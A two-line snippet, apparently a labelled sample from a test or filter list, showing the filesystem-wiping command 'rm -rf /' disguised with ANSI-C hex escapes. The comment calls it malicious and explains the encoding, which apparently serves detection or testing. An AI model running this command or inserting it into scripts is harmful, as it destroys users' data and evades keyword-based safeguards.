# Malicious, obfuscated: $'\x72\x6d' is "rm" written as ANSI-C hex escapes; this is rm -rf /.
$'\x72\x6d' -rf /
